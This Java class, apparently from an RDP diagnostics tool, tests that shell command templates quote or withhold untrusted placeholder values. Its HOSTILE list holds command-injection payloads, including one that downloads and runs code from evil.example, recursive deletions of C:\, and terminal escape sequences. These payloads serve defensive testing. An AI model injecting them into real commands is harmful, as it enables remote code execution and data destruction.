package io.rdpdoctor.knowledge;

import io.rdpdoctor.knowledge.PowerShellTokens.Kind;
import io.rdpdoctor.knowledge.PowerShellTokens.Token;
import io.rdpdoctor.knowledge.ShellQuoting.Shell;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.function.Predicate;

/**
 * The quoting contract of catalogue commands (each diagnosis's fix steps with their backup and
 * undo, its verification, each next-step question): filled with benign values each is printed and
 * tokenizes; filled with hostile values for each of its placeholders in turn, each is either
 * withheld (the value shown apart), or
 * <ul>
 *   <li>in PowerShell, it tokenizes to the same tokens as the template filled with a benign value,
 *       the value inside exactly one string literal per place it goes;</li>
 *   <li>in cmd, the value stands only inside "..." and holds no character cmd acts on there;</li>
 *   <li>in a line for either shell, both hold;</li>
 *   <li>in another tool's command, it is a plain word.</li>
 * </ul>
 * Run on the bundled rules by CommandQuotingContractTest and on an author's by {@code test-rules}
 * (scenario.RuleContract).
 */
public final class QuotingContract {

    /** Quotes of both shells and their typographic forms, separators, expansions, line breaks, terminal escapes, length. */
    public static final List<String> HOSTILE = List.of(
            "x';iex(iwr('http://evil.example/p'));'0xC0000234",
            "a';\"&calc&\"0xC0000072",
            "x' -Path C:\\t; Remove-Item -Recurse -Force C:\\ #",
            "RDP\" & del /s /q C:\\* & rem \"'; Remove-Item -Recurse C:\\ -Force; #",
            "Default Domain Controllers' Policy",
            "a‘;calc;’b",
            "a’‛‚b'",
            "“;calc;”",
            "„x“",
            "$(calc)",
            "${env:ComputerName}",
            "`$(calc)`",
            "a`;calc",
            "a`",
            "x; calc",
            "x & calc",
            "x && calc",
            "x | calc",
            "x || calc",
            "%COMSPEC%",
            "a%PATH%b",
            "!x!",
            "^&calc",
            "a<b>c",
            "\"quoted\"",
            "'",
            "''",
            "\"",
            "#comment",
            "@(calc)",
            "{calc}",
            "}; calc; {",
            "(calc)",
            "-Filter *",
            "/delete",
            "–Force",
            "x\\",
            "two words",
            "Baseline\n\nNo cause found: the host is healthy.\n1  HEALTHY  [confirmed]  nothing to fix\r",
            "a\r\nb",
            "H1\u001b[2J\u001b]52;c;aWV4\u0007\u001b]8;;http://evil.example/\u0007click",
            "a\u202eb",
            "a\u0085b",
            "a\u007fb",
            "a\tb",
            "x".repeat(5000),
            "'".repeat(ShellQuoting.MAX_LENGTH));

    /** One command template of the catalogue: the entry's id, where in it, the field and the text. */
    public record Template(String id, String where, String field, String text) {
        public Shell shell() {
            return Shell.of(field, text);
        }

        public Set<String> names() {
            return Templates.placeholders(text);
        }
    }

    /** One broken promise, for the entry id. */
    public record Problem(String id, String message) {
    }

    private final List<Template> templates = new ArrayList<>();
    private final Set<String> placeholders = new LinkedHashSet<>();
    private final Map<String, String> benign = new HashMap<>();
    private int fills;
    private int printed;
    private int withheld;

    /** The contract over the catalogue's entries whose id passes ours. */
    public QuotingContract(Catalogue c, Predicate<String> ours) {
        for (DiagnosisDef d : c.diagnoses()) {
            if (!ours.test(d.id())) continue;
            int n = 1;
            for (FixStep s : d.fix()) {
                String at = d.id() + " fix " + n++;
                add(d.id(), at, "powershell", s.powershell());
                add(d.id(), at, "cmd", s.cmd());
                add(d.id(), at, "command", s.command());
                add(d.id(), at, "backup", s.backup());
                add(d.id(), at, "undo", s.undo());
            }
            if (d.verify() != null) {
                add(d.id(), d.id() + " verify", "powershell", d.verify().powershell());
                add(d.id(), d.id() + " verify", "cmd", d.verify().cmd());
                add(d.id(), d.id() + " verify", "command", d.verify().command());
            }
        }
        for (QuestionDef q : c.questions()) {
            if (!ours.test(q.id())) continue;
            add(q.id(), q.id(), "powershell", q.powershell());
            add(q.id(), q.id(), "cmd", q.cmd());
        }
        int i = 0;
        for (String p : placeholders) {
            String typed = ValueTypes.example(p);
            benign.put(p, typed != null ? typed : "Benign" + i++ + "x");
        }
    }

    private void add(String id, String where, String field, String text) {
        if (text != null) {
            templates.add(new Template(id, where, field, text));
            placeholders.addAll(Templates.placeholders(text));
        }
    }

    public List<Template> templates() {
        return templates;
    }

    public Set<String> placeholders() {
        return placeholders;
    }

    /** An ordinary value for every placeholder: its type's example, else a plain word. */
    public Map<String, String> benignValues() {
        return Map.copyOf(benign);
    }

    /** Hostile fills so far: how many, printed safely quoted, withheld. */
    public int[] counts() {
        return new int[] {fills, printed, withheld};
    }

    /** Each template filled with benign values is printed (not withheld), and PowerShell tokenizes it. */
    public List<Problem> benignProblems() {
        List<Problem> problems = new ArrayList<>();
        for (Template t : templates) {
            CommandFiller.Filled f = CommandFiller.fill(t.shell(), t.text(), benign);
            if (f.isWithheld()) {
                problems.add(new Problem(t.id(), t.where() + " " + t.field() + ": withheld with benign values: " + f.withheld()
                        + " (a free-text value goes in '{name}' in PowerShell and in \"{name}\" in cmd: docs/writing-rules.md, \"Placeholders in commands\")"));
                continue;
            }
            if (t.shell() == Shell.POWERSHELL || t.shell() == Shell.BOTH) {
                try {
                    PowerShellTokens.tokenize(f.command());
                } catch (IllegalArgumentException e) {
                    problems.add(new Problem(t.id(), t.where() + " " + t.field() + ": " + e.getMessage() + ": " + f.command()));
                }
            }
        }
        return problems;
    }

    /** Each template filled with each hostile value for each placeholder: withheld, or the value one literal. */
    public List<Problem> hostileProblems() {
        List<Problem> problems = new ArrayList<>();
        for (Template t : templates) {
            for (String name : t.names()) {
                for (String hostile : HOSTILE) {
                    fills++;
                    Map<String, String> values = new HashMap<>(benign);
                    values.put(name, hostile);
                    CommandFiller.Filled f = CommandFiller.fill(t.shell(), t.text(), values);
                    String problem;
                    if (f.isWithheld()) {
                        withheld++;
                        problem = checkWithheld(t, name, hostile, f);
                    } else {
                        printed++;
                        problem = checkPrinted(t, name, hostile, f.command());
                    }
                    if (problem != null) {
                        problems.add(new Problem(t.id(), t.where() + " " + t.field() + " {" + name + "} = " + visible(hostile) + ": " + problem
                                + " (docs/writing-rules.md, \"Placeholders in commands\")"));
                    }
                }
            }
        }
        return problems;
    }

    private String checkWithheld(Template t, String name, String hostile, CommandFiller.Filled f) {
        if (f.withheld().stream().noneMatch(r -> r.name().equals(name) && r.value().equals(hostile) && !r.problem().isBlank())) {
            return "withheld without naming the value: " + f.withheld();
        }
        Map<String, String> without = new HashMap<>(benign);
        without.remove(name);
        String expected = CommandFiller.fill(t.shell(), t.text(), without).command();
        if (!f.template().equals(expected) || !expected.contains("<" + name + ">")) {
            return "the withheld command is not the template with <" + name + "> in place of the value: " + f.template();
        }
        return null;
    }

    private String checkPrinted(Template t, String name, String hostile, String command) {
        if (ShellQuoting.hasControl(command)) {
            return "a control character in the command";
        }
        return switch (t.shell()) {
            case POWERSHELL -> sameTokens(t, name, hostile, command);
            case CMD -> onlyInsideCmdQuotes(t, name, hostile, command);
            case BOTH -> {
                String ps = sameTokens(t, name, hostile, command);
                yield ps != null ? "as PowerShell: " + ps : onlyInsideCmdQuotes(t, name, hostile, command);
            }
            case ANY -> ShellQuoting.isPlainWord(hostile, Shell.ANY) ? null : "not a plain word, printed in another tool's command: " + command;
        };
    }

    /** PowerShell: the tokens of the benign fill, the value only in string literals where the benign value was. */
    private String sameTokens(Template t, String name, String hostile, String command) {
        String marker = benign.get(name);
        Map<String, String> b = new HashMap<>(benign);
        List<Token> expected = PowerShellTokens.tokenize(CommandFiller.fill(t.shell(), t.text(), b).command());
        List<Token> actual;
        try {
            actual = PowerShellTokens.tokenize(command);
        } catch (IllegalArgumentException e) {
            return "does not tokenize: " + e.getMessage() + ": " + command;
        }
        if (expected.size() != actual.size()) {
            return "tokens differ: " + actual + " instead of " + expected;
        }
        int carrying = 0;
        for (int i = 0; i < expected.size(); i++) {
            Token e = expected.get(i);
            Token a = actual.get(i);
            if (e.kind() != Kind.COMMENT && e.value().contains(marker)) {
                carrying++;
                String want = e.value().replace(marker, hostile);
                boolean ok = a.value().equals(want) && (a.isLiteralString() || (a.kind() == e.kind() && a.kind() == Kind.WORD
                        && ShellQuoting.isPlainWord(hostile, Shell.POWERSHELL)));
                if (!ok) {
                    return "token " + i + " is " + a + ", expected one string literal " + visible(want) + ": " + command;
                }
            } else if (!e.equals(a) && !(e.kind() == Kind.COMMENT && a.kind() == Kind.COMMENT)) {
                return "token " + i + " is " + a + " instead of " + e + ": " + command;
            }
        }
        return carrying > 0 ? null : "the value is in no token: " + command;
    }

    /** cmd: each occurrence of the value inside "...", the value free of what cmd acts on, the rest as the template. */
    private String onlyInsideCmdQuotes(Template t, String name, String hostile, String command) {
        for (char c : "\"%^&|<>!".toCharArray()) {
            if (hostile.indexOf(c) >= 0) return "the value holds " + c + " and was printed for cmd: " + command;
        }
        if (ShellQuoting.isPlainWord(hostile, Shell.CMD)) return null;
        int found = 0;
        for (int at = command.indexOf(hostile); at >= 0; at = command.indexOf(hostile, at + hostile.length())) {
            found++;
            long quotesBefore = command.substring(0, at).chars().filter(ch -> ch == '"').count();
            if (quotesBefore % 2 == 0 || at + hostile.length() >= command.length()) {
                return "the value is not inside \"...\": " + command;
            }
        }
        String marker = benign.get(name);
        String benignCommand = CommandFiller.fill(t.shell(), t.text(), benign).command();
        if (found != CommandFiller.slots(t.text()).stream().filter(s -> s.name().equals(name)).count()
                || !command.replace(hostile, marker).replace("\"", "").equals(benignCommand.replace("\"", ""))) {
            return "the command differs from the template beyond the value: " + command;
        }
        return null;
    }

    static String visible(String s) {
        String v = s.length() > 60 ? s.substring(0, 60) + "...(" + s.length() + " characters)" : s;
        StringBuilder b = new StringBuilder();
        for (char c : v.toCharArray()) b.append(ShellQuoting.isControl(c) ? String.format("\\u%04x", (int) c) : String.valueOf(c));
        return b.toString();
    }
}
